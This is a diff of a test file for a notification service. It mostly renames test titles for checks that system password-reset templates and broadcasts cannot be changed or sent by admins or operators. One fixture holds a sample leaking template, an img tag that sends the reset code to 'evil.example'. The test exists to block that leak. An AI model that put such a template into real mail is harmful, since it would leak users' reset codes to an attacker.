@@ -37,7 +37,7 @@ async function resetTemplate() {
   return NotificationTemplate.findByOrFail({ notificationTypeId: type.id, key: 'password_reset' })
 }
 
-/** Everything that changes or sends a system type, each with a key that must not. */
+/** Everything that changes or sends a system type, with a key that must not. */
 async function attempts(client: ApiClient, key: string, base = '') {
   const server = serverWith(client, key, base)
   const { id } = await resetTemplate()
@@ -130,12 +130,12 @@ test.group('System notification types', () => {
   })
 })
 
-test.group('Secrets in mails of the system', (group) => {
+test.group('Secrets in system mails', (group) => {
   withSigningKey(group)
 
   const leaking = '<p>Your code is {{code}}</p><img src="https://evil.example/{{code}}">'
 
-  test('even a super admin saves no template that carries them to another host', async ({
+  test('cannot be sent to another host by a template, even of a super admin', async ({
     client,
     assert,
   }) => {
@@ -156,7 +156,7 @@ test.group('Secrets in mails of the system', (group) => {
     assert.deepEqual(ordinary.body().data.warnings, ['code'])
   })
 
-  test('no template carries them away by {0}')
+  test('cannot be sent elsewhere by {0}')
     .with([
       [
         'a style sheet that reads the link',
@@ -186,10 +186,7 @@ test.group('Secrets in mails of the system', (group) => {
       await requireUntouched()
     })
 
-  test('a template with plain styles, a picture and the code in words is saved', async ({
-    client,
-    cleanup,
-  }) => {
+  test('may be used in a template with plain styles and an image', async ({ client, cleanup }) => {
     const { id } = await resetTemplate()
     const version = await TemplateVersion.findByOrFail({ notificationTemplateId: id, locale: 'en' })
     const before = { ...version.$attributes }
@@ -204,7 +201,7 @@ test.group('Secrets in mails of the system', (group) => {
     saved.assertStatus(200)
   })
 
-  test('a template that was saved earlier is not used if its {$self} carries them away')
+  test('cannot be sent elsewhere by the {$self} of an existing template')
     .with(['inlinedBody', 'subjectTemplate'] as const)
     .run(async ({ assert, cleanup }, field) => {
       const { id: organisation, server } = await anOrganisation()
@@ -227,7 +224,7 @@ test.group('Secrets in mails of the system', (group) => {
     })
 })
 
-test.group('Broadcasts of types of the system', () => {
+test.group('Broadcasts of system types', () => {
   const broadcast = {
     type: 'auth_idp',
     template: 'password_reset',
@@ -235,7 +232,7 @@ test.group('Broadcasts of types of the system', () => {
   }
   const path = '/api/admin/notifications/broadcast/auth'
 
-  test('are refused to everybody, now and later', async ({ client, assert }) => {
+  test('are refused to everybody, even scheduled', async ({ client, assert }) => {
     const globalAdmin = await panelPerson(client, {}, { globally: 'edit' })
     const recipient = uniqueEmail()
     for (const email of [globalAdmin, SUPER_ADMIN]) {
@@ -254,7 +251,7 @@ test.group('Broadcasts of types of the system', () => {
     assert.isNull(await Broadcast.findBy({ type: 'auth_idp' }))
   })
 
-  test('are refused to operators, also as a dry run', async ({ assert }) => {
+  test('are refused to operators, even as a dry run', async ({ assert }) => {
     const args = ['broadcast:send', 'auth', '--type=auth_idp', '--template=password_reset']
     const data = `--data=${JSON.stringify(broadcast.data)}`
     const to = ['--to=emails', `--email=${uniqueEmail()}`, '--json']
@@ -265,7 +262,7 @@ test.group('Broadcasts of types of the system', () => {
     }
   })
 
-  test('end without sending when one was stored before', async ({ assert, cleanup }) => {
+  test('end without sending if one exists', async ({ assert, cleanup }) => {
     const application = await anApplication()
     const email = uniqueEmail()
     const { id, type } = await aBroadcast(application, {
